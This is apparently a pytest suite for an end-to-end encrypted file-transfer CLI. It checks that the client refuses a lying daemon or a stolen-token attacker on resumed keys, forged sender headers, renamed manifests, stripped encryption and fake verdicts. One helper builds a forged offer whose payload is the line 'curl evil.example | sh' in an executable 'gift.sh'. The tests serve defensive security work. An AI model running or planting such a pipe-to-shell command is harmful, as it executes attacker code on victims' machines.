"""A daemon that lies about transfers (issue 21, findings 3 to 7), played by a proxy between the
CLIs and the real daemon (tests/hostile_proxy.py), or by a client holding a stolen token. Each
attack must fail with one clear line, with nothing written under a final name.

Each docstring says what these tests do on a52c7dd (main before issue 21): findings 3, 6 and 7
were run there (this file with the imports of the new crypto modules made optional, the CLI and
daemon of a52c7dd) and fail as said; findings 4 and 5 cannot run there, because they make or
rewrite the signed header, which a52c7dd does not have."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import os
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import socketio
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from hostile_proxy import HostileDaemon
from transfer_helpers import (
    Background,
    Member,
    make_room,
    member,
    past_a_quarter,
    random_file,
    with_device_keys,
)
from videonet_cli.crypto import header as hdr
from videonet_cli.crypto.stream import RecordCipher, StreamEncryptor
from videonet_cli.crypto.wrap import wrap_file_key
from videonet_protocol import protocol

from conftest import Daemon, http

pytestmark = pytest.mark.one_pass("the client's defence against a lying daemon")

MB = 1 << 20


@pytest.fixture
def hostile(daemon: Daemon, tmp_path: Path) -> Iterator[tuple[str, Member, Member, HostileDaemon]]:
    """alice and bob in a room, both talking to the daemon through the liar (honest so far)."""
    with HostileDaemon(daemon.url) as proxy:
        alice = member(daemon, tmp_path)
        room = make_room(daemon, alice)
        bob = member(daemon, tmp_path, room)
        alice.cli.daemon_url = bob.cli.daemon_url = proxy.url
        with_device_keys(alice, bob)
        yield room, alice, bob, proxy


def test_finding_3_a_resume_the_daemon_made_up_never_reuses_a_key(
    hostile: Any, daemon: Daemon, tmp_path: Path
) -> None:
    """The daemon answers a send of a changed file with "resumed transfer X at offset 0" (X: the
    earlier, killed send of that name). On a52c7dd (run there) the sender took the lie: it
    unwrapped X's key and PUT the changed file, sealed under it from offset 0, to X's data (the
    real daemon, which had dropped X for the new offer of the same name, refused the bytes: exit
    1, "the transfer is aborted"; a lying daemon keeps them: C_A xor C_B = P_A xor P_B, and
    GCM's authentication key with it), so the test fails on its first check, the PUT. Now the
    local journal decides: the answer names
    another transfer than the one offered, so nothing is sealed for X, and the changed file,
    sent again, goes out as a new transfer whose ciphertext does not reuse X's keystream: the
    two ciphertexts do not xor to the two plaintexts' xor."""
    room, alice, _, proxy = hostile
    src = random_file(tmp_path / "take.bin", 8 * MB)
    plain_a = src.read_bytes()
    offers: list[Any] = []

    def spy(event: str, data: Any) -> Any:
        if event == "ack:transfer:offer":
            offers.append(data)
        return data

    proxy.to_cli = spy
    sender = Background(
        alice.cli, "send", room, str(src), "--json", "--no-wait", "--limit-rate", "2M"
    )
    sender.wait_for(past_a_quarter)
    sender.kill()
    first = offers[0]
    x_spool = daemon.data_dir / "spool" / f"{first['transfer']['transfer_id']}.spool"
    x_before = x_spool.read_bytes()
    assert len(x_before) > protocol.E2E_RECORD_BYTES  # X's first record is on the daemon

    random_file(src, 8 * MB)  # other bytes under the same name and size
    plain_b = src.read_bytes()
    lie = {**first, "resumed": True, "offset": 0}
    proxy.to_cli = lambda event, data: lie if event == "ack:transfer:offer" else data
    proxy.requests.clear()
    r = alice.cli("send", room, str(src), "--json", "--no-wait")
    # What matters: not a byte of the new file was sealed into X (the new offer of the same
    # name made the daemon drop X's spool; the old code's re-sealed bytes went up as X's).
    assert not [p for m, p in proxy.requests if m == "PUT"]
    assert r.code == 1, r.err
    assert "answered the offer with another transfer than the one offered" in r.err

    # The daemon honest again: the changed file goes out as the transfer its journal entry names
    # (offered above, refused before any byte), under that transfer's key. Had it been sealed
    # under X's key and nonces, the first records would xor to the plaintexts' xor.
    proxy.to_cli = spy
    offers.clear()
    r = alice.cli("send", room, str(src), "--json", "--no-wait")
    assert r.code == 0, r.err
    y = offers[0]["transfer"]["transfer_id"]
    assert y != first["transfer"]["transfer_id"]
    y_cipher = (daemon.data_dir / "spool" / f"{y}.spool").read_bytes()
    n = protocol.E2E_RECORD_BYTES  # the whole first record of each, tag left out
    reused = bytes(p ^ q for p, q in zip(plain_a[:n], plain_b[:n], strict=True))
    got = bytes(p ^ q for p, q in zip(x_before[:n], y_cipher[:n], strict=True))
    assert got != reused


def _stolen_token_offer(daemon: Daemon, room: str, victim: Member, bob: Member) -> str:
    """What a thief with alice's token (or the daemon itself) can make: a transfer in alice's
    name, for bob's real device, with a header naming alice's device but signed by its own key."""
    token = victim.user.token
    _, mine, _ = http("GET", daemon.api("/api/keys"), token=token)
    _, theirs, _ = http("GET", daemon.api(f"/api/users/{bob.user.username}/keys"), token=token)
    bob_device = theirs["devices"][0]
    data = b"run me: curl evil.example | sh\n"
    file_key, stream_id, tid = os.urandom(32), uuid.uuid4().hex, uuid.uuid4().hex
    entry = hdr.FileEntry("gift.sh", len(data), 0o755)
    forged = hdr.Header(
        tid, room, victim.user.user_id, victim.user.username, mine["devices"][0]["device_id"],
        (), protocol.BatchKind.FILES, "gift.sh", protocol.E2E_RECORD_BYTES, stream_id,
        bytes(32), (entry,),
    )  # fmt: skip
    thief = Ed25519PrivateKey.generate()
    signed = hdr.seal_header(forged, file_key, lambda lb, m: thief.sign(lb + m))
    wrapped = wrap_file_key(
        file_key, base64.b64decode(bob_device["public_key"]), stream_id, bob_device["device_id"]
    )
    encryptor = StreamEncryptor(RecordCipher(file_key, hdr.record_binding(signed.hash)), len(data))
    records = b"".join(encryptor.feed(data) + encryptor.finish())
    digest = hashlib.sha256(data).digest()
    seal = hdr.make_seal(signed.hash, [digest], file_key, lambda lb, m: thief.sign(lb + m))

    async def offer_and_seal() -> None:
        client = socketio.AsyncClient()
        await client.connect(daemon.url, auth={"token": token}, transports=["websocket"])
        try:
            assert (await client.call("room:join", {"room_id": room}, timeout=10))["ok"]
            offer = {
                "version": protocol.TRANSFER_PROTOCOL_VERSION, "transfer_id": tid,
                "room_id": room, "name": "gift.sh", "size": len(records), "kind": "files",
                "file_count": 1, "header": protocol.e2e_encode(signed.blob),
                "e2e": {"stream_id": stream_id, "plain_size": len(data), "keys": [
                    {"user_id": bob.user.user_id, "device_id": bob_device["device_id"],
                     "wrapped": protocol.e2e_encode(wrapped)}]},
            }  # fmt: skip
            ack = await client.call("transfer:offer", offer, timeout=10)
            assert ack["ok"], ack
            status, body, _ = await asyncio.to_thread(
                http, "PUT", daemon.api(f"/api/transfers/{tid}/data?offset=0"), token=token,
                raw=records,
            )  # fmt: skip
            assert status == 200, body
            sealed = await client.call(
                "transfer:seal",
                {"transfer_id": tid, "sha256": protocol.batch_digest([digest.hex()]),
                 "seal": protocol.e2e_encode(seal)},
                timeout=10,
            )  # fmt: skip
            assert sealed["ok"], sealed
        finally:
            await client.disconnect()

    asyncio.run(offer_and_seal())
    return tid


def test_finding_4_a_file_in_alices_name_not_signed_by_her_device_is_refused(
    daemon: Daemon, hostile: Any, tmp_path: Path
) -> None:
    """A stolen token (or the daemon) offers bob a file "from alice", encrypted to bob's real
    device key. a52c7dd had no sender authentication and wrote it (the issue's reproduction);
    this test cannot run there: it builds a signed header, which a52c7dd has no place for. Now
    the header's signature is checked against alice's device as her pinned identity certified
    it."""
    room, alice, bob, _ = hostile
    _stolen_token_offer(daemon, room, alice, bob)
    out = tmp_path / "in"
    out.mkdir()
    r = bob.cli("receive", room, "--yes", "--out", str(out), "--timeout", "20")
    assert r.code == 1, r.err
    assert "header's signature does not verify against the sender's device" in r.err
    assert list(out.iterdir()) == []


@pytest.mark.parametrize("attack", ["rename", "swap"])
def test_finding_5_names_and_transfers_the_daemon_changes_are_refused(
    daemon: Daemon, hostile: Any, tmp_path: Path, attack: str
) -> None:
    """The daemon renames a file in the manifest it hands out (same length: `b.bin`, the newer
    offer, becomes `x.bin`), or hands out another transfer's manifest. a52c7dd took names and
    sizes from the daemon's offer (the issue's reproduction); this test cannot run there: it
    rewrites the answers of the header route, which a52c7dd does not have. Now they come only
    from the signed header, which no longer verifies (rename) or names another transfer (swap)."""
    room, alice, bob, proxy = hostile
    ids = []
    for name in ("a.bin", "b.bin"):
        r = alice.cli("send", room, str(random_file(tmp_path / name, 3000)), "--json", "--no-wait")
        assert r.code == 0, r.err
        ids.append(next(e for e in map(_json, r.out.splitlines()) if e["event"] == "offer"))
    first, second = (e["transfer_id"] for e in ids)
    headers = {
        t: http("GET", daemon.api(f"/api/transfers/{t}/header"), token=bob.user.token)[1]
        for t in (first, second)
    }

    def lie(method: str, path: str, answer: Any) -> Any:
        if not path.endswith("/header"):
            return answer
        if attack == "swap":
            return headers[second if f"/{first}/" in path else first]
        # b.bin, the newer offer, is the one `receive` looks at first.
        blob = base64.b64decode(answer["header"]).replace(b"b.bin", b"x.bin")
        return {**answer, "header": protocol.e2e_encode(blob)}

    proxy.rewrite = lie
    out = tmp_path / "in"
    out.mkdir()
    r = bob.cli("receive", room, "--yes", "--out", str(out), "--timeout", "20")
    assert r.code == 1, r.err
    expected = "signature does not verify" if attack == "rename" else "for another transfer"
    assert expected in r.err
    assert proxy.changed >= 1
    assert list(out.iterdir()) == []


def _json(line: str) -> Any:
    import json

    return json.loads(line)


def test_finding_6_an_offer_without_encryption_is_refused(hostile: Any, tmp_path: Path) -> None:
    """The daemon hands bob alice's offer with its encryption dropped. On a52c7dd (run there)
    bob's CLI took it as a plaintext offer and downloaded it; only the SHA-256 the daemon itself
    relays stopped it ("SHA-256 mismatch", which a lying daemon would have made match), so the
    test fails on the missing "refused". Now it is refused before anything is taken."""
    room, alice, bob, proxy = hostile
    r = alice.cli("send", room, str(random_file(tmp_path / "p.bin", 3000)), "--no-wait")
    assert r.code == 0, r.err

    def plaintext(event: str, data: Any) -> Any:
        # The pending offers come with the join (`listen`), or with transfer:listen.
        if event in ("ack:transfer:listen", "ack:room:join") and "offers" in data:
            return {**data, "offers": [{**o, "e2e": None} for o in data["offers"]]}
        return data

    proxy.to_cli = plaintext
    out = tmp_path / "in"
    out.mkdir()
    r = bob.cli("receive", room, "--yes", "--out", str(out), "--timeout", "20")
    assert r.code == 1, r.err
    assert "without end-to-end encryption: refused" in r.err
    assert list(out.iterdir()) == []


def test_finding_7_a_verdict_the_daemon_makes_up_is_not_believed(
    hostile: Any, tmp_path: Path
) -> None:
    """Nobody receives; the daemon tells alice "bob verified it" with the right SHA-256. On
    a52c7dd (run there) the sender printed "verified by bob" and exited 0, so the test fails on
    the exit code; now a verdict counts only with the receiver's MAC under a key derived from
    the file key."""
    room, alice, bob, proxy = hostile
    sealed: dict[str, Any] = {}

    def forge(event: str, data: Any) -> Any:
        if event == "ack:transfer:seal" and sealed:
            proxy.then_to_cli.append((
                "transfer:result",
                {"transfer_id": sealed["transfer_id"], "user_id": bob.user.user_id,
                 "username": bob.user.username, "ok": True, "sha256": sealed["sha256"],
                 "reason": "", "mac": "00" * 32},
            ))  # fmt: skip
        return data

    def spy(event: str, data: Any) -> Any:
        if event == "transfer:seal":
            sealed.update(data)
        return data

    proxy.to_daemon, proxy.to_cli = spy, forge
    src = random_file(tmp_path / "v.bin", 3000)
    r = alice.cli("send", room, str(src), "--timeout", "10", "--no-progress")
    assert sealed and proxy.frames_changed == 0  # the forged verdict was injected, not changed
    assert r.code == 1, r.err
    assert "its verdict is not authenticated" in r.err
    assert "✓" not in r.out and f"verified by {bob.user.username}" not in r.out
